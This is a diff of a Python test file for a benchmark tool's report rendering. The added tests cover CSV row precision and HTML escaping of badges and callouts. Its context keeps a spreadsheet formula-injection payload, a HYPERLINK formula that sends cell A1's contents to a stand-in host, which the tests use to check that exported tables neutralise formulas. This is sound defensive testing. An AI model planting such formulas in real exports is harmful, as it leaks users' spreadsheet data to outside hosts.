@@ -3,13 +3,15 @@
 import csv
 import io
 from pathlib import Path
+from typing import Literal
 
 import pandas as pd
 import pytest
 from support.profiles import kineto
 
-from analysis.render.tables import write_csv, write_frame
-from analysis.wording import inert
+from analysis.render.page import Badge, Callout, Page, Section, write_page
+from analysis.render.tables import Column, build, measured, plain, spread, texts, write_csv, write_frame
+from analysis.wording import UNKNOWN, batch, inert
 from bench.cli.main import run
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
@@ -50,3 +52,27 @@ def test_a_kernel_called_like_a_formula_is_none_in_the_tables_of_a_report(
         for cell in row
     ]
     assert any(cell.startswith("'=1+") for cell in cells) and not any(cell.startswith("=") for cell in cells)
+
+
+def test_rows_of_a_csv_file_have_full_precision_and_unknown_values_as_none() -> None:
+    columns = [plain("run", "name"), measured("step ms", "step_time_ms"), spread("step_time_ms"),
+               Column("batch", batch, batch)]  # fmt: skip
+    row = {"name": "a", "step_time_ms": 1.23456789, "step_time_ms_low": 1.2, "step_time_ms_high": None,
+           "micro_batch_size": 8, "grad_accum_steps": 2, "trial_id": "t-1"}  # fmt: skip
+    table = build("steps", columns, [row])
+    names = ("name", "step_time_ms", "step_time_ms_low", "step_time_ms_high")
+    assert table.csv_rows() == [{name: row[name] for name in names} | {"batch": batch(row)}]
+    assert table.trials == ("t-1",)
+    assert texts("t", ["name", "ms"], [["a", UNKNOWN]]).csv_rows() == [{"name": "a", "ms": ""}]
+
+
+@pytest.mark.parametrize("style", ["caution", "good", "plain"])
+def test_badges_and_callouts_escape_their_words_and_name_their_style(
+    tmp_path: Path, style: Literal["caution", "good", "plain"]
+) -> None:
+    blocks = [Badge("<b>1 & 2", style), Callout("Do <i>this", ["run `bertbench doctor`"])]
+    path, *others = write_page(Page("p", "e", [Section("s", blocks)]), tmp_path)
+    page = path.read_text(encoding="utf-8")
+    assert not others and f'<p class="badge {style}">&lt;b&gt;1 &amp; 2</p>' in page
+    callout = page[page.index('<div class="callout first">') :]
+    assert "Do &lt;i&gt;this" in callout and "<code>bertbench doctor</code>" in callout
